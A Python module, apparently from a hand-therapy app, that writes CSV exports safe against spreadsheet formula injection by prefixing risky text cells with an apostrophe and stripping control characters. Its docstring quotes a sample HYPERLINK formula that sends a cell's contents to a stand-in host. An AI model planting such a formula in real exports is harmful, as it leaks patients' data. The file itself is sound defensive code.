"""The one CSV writer of every export: safe to open in a spreadsheet.

A spreadsheet treats a cell that starts with = + - @ (and, in some programs, tab or
carriage return) as a formula, so a patient named `=HYPERLINK("http://x/?"&A1,"click")`
would run in the therapist's spreadsheet (CSV injection, OWASP). Every *text* cell that
starts with one of those characters is written with a leading apostrophe, which
spreadsheets show as text and do not evaluate; control characters (NUL, ESC, BEL...) are
removed from text cells, since exports are also printed to terminals.

Numbers are written as numbers, untouched: "-5" degrees of hyperextension is a number a
spreadsheet must read as -5, and Python's int and float are never formulas. Only values
that are text (str) are neutralised; a text cell that happens to look like a negative
number (a name "-5") gets the apostrophe like any other text. None is an empty cell,
True/False are written as Python writes them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

from handcoach.text import printable

#: what a spreadsheet may read as the start of a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """One value as it is written: text neutralised, everything else as it is."""
    if not isinstance(value, str):
        return value
    text = printable(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(out: TextIO, rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> None:
    """CSV with a header row to `out`; keys not in `columns` are left out."""
    writer = csv.DictWriter(out, fieldnames=list(columns), extrasaction="ignore",
                            lineterminator="\n")
    writer.writerow({c: cell(c) for c in columns})
    for row in rows:
        writer.writerow({k: cell(v) for k, v in row.items()})


def csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """The same CSV as a string (the app's downloads)."""
    out = io.StringIO()
    write_csv(out, rows, columns)
    return out.getvalue()
